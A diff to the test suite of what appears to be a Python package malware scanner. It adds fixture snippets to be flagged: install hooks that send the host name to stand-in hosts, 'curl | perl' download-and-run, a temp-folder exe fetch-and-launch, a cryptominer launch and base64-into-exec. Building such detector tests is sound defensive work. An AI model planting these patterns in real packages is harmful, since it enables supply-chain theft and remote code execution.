@@ -142,6 +142,70 @@ import getpass, requests
 def main():
     requests.post("https://collect.example/", json={"u": getpass.getuser()})
 """
+MINER = """\
+import subprocess
+subprocess.Popen(["./worker", "-o", "stratum+tcp://pool.example:3333", "-u", "WALLET"])
+"""
+PY2_METHOD_DECODE = 'exec("cHJpbnQoMSk=".decode("base64"))\n'
+HOST_VARIABLE_SETUP = """\
+import os, requests
+from setuptools import setup
+from setuptools.command.install import install
+
+def report():
+    name = os.environ["COMPUTERNAME"]
+    requests.get("https://collect.example/?h=" + name)
+
+class Hook(install):
+    def run(self):
+        install.run(self)
+        report()
+
+setup(name="demo", cmdclass={"install": Hook})
+"""
+IP_LOGGER_SETUP = """\
+import urllib.request
+from setuptools import setup
+setup(name="demo")
+urllib.request.urlopen("https://iplogger.org/2abcd")
+"""
+CURL_COMMAND_SETUP = """\
+import os
+from setuptools import setup
+os.popen("curl -s https://collect.example/hit")
+setup(name="demo")
+"""
+CURL_PERL_SETUP = """\
+import subprocess
+from setuptools import setup
+subprocess.run("curl https://get.example/p | perl -", shell=True)
+setup(name="demo")
+"""
+TEMP_EXECUTABLE = """\
+import os, urllib.request
+
+def fetch(url):
+    path = os.getenv("LOCALAPPDATA") + "\\\\Temp\\\\update.exe"
+    with open(path, "wb") as out:
+        out.write(urllib.request.urlopen(url).read())
+    return path
+
+def start(path):
+    os.system(f"start {path}")
+
+start(fetch("https://files.example/u"))
+"""
+MISTYPED_FETCH_SETUP = """\
+import urllib.request
+from subprocess import run
+from setuptools import setup
+try:
+    urllib.urlrequest.urlretrieve("https://files.example/tool.exe", "tool.exe")
+    run(["start", "tool.exe"], shell=True)
+except Exception:
+    pass
+setup(name="demo")
+"""
 MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 # Legitimate packages do all of these every day; none may be flagged.
@@ -351,6 +415,38 @@ CASES = [
         True,
     ),
     (
+        "cryptominer",
+        wheel({"demo/__init__.py": MINER}),
+        "d-1.0-py3-none-any.whl",
+        "cryptominer",
+        True,
+    ),
+    (
+        "Python 2 str.decode('base64') into exec",
+        wheel({"demo/__init__.py": PY2_METHOD_DECODE}),
+        "demo-1.0-py3-none-any.whl",
+        "decode-exec",
+        True,
+    ),
+    ("host name variable sent", _sdist(HOST_VARIABLE_SETUP), "demo-1.0.tar.gz", "phone-home", True),
+    ("IP logger at install", _sdist(IP_LOGGER_SETUP), "demo-1.0.tar.gz", "exfil-sink", True),
+    (
+        "curl run at install",
+        _sdist(CURL_COMMAND_SETUP, "def f():\n    return 1\n"),
+        "demo-1.0.tar.gz",
+        "install-network",
+        False,
+    ),
+    ("curl | perl", _sdist(CURL_PERL_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    (
+        "download to a program in a temporary directory",
+        wheel({"demo/__init__.py": TEMP_EXECUTABLE}),
+        "demo-1.0-py3-none-any.whl",
+        "download-run",
+        True,
+    ),
+    ("mistyped urlretrieve", _sdist(MISTYPED_FETCH_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    (
         "bundled executable",
         _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
         "demo-1.0.tar.gz",
@@ -458,3 +554,33 @@ def test_directories_named_with_test_or_doc_words_are_inert() -> None:
         **{"manual tests/build.py": SETUP_DECODE_EXEC, "_test-data/gen.py": SETUP_DECODE_EXEC},
     )
     assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()
+
+
+def test_only_command_groups_can_hijack_a_command() -> None:
+    plugin = (
+        '[project]\nname = "demo"\n\n[project.entry-points."demo.extractors"]\npython = "demo:x"\n'
+    )
+    script = '[project]\nname = "demo"\n\n[project.scripts]\npip = "demo:main"\n'
+    cfg = "[options.entry_points]\nconsole_scripts =\n    sudo = demo:main\ndemo.plugins =\n    ls = demo:x\n"
+    rules = [
+        {
+            f.rule
+            for f in scan_archive(_sdist("x = 1\n", **{name: text}), "demo-1.0.tar.gz").findings
+        }
+        for name, text in (
+            ("pyproject.toml", plugin),
+            ("pyproject.toml", script),
+            ("setup.cfg", cfg),
+        )
+    ]
+    assert "command-hijack" not in rules[0]
+    assert "command-hijack" in rules[1]
+    assert "command-hijack" in rules[2]
+
+
+def test_getattr_of_builtins_by_a_runtime_name_is_not_obfuscation() -> None:
+    lookup = "import builtins\ndef find(name):\n    return getattr(builtins, name)\n"
+    hidden = "import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"
+    assert scan_archive(wheel({"demo/__init__.py": lookup}), "d.whl").findings == ()
+    found = scan_archive(wheel({"demo/__init__.py": hidden}), "d.whl").findings
+    assert "obfuscated" in {f.rule for f in found}
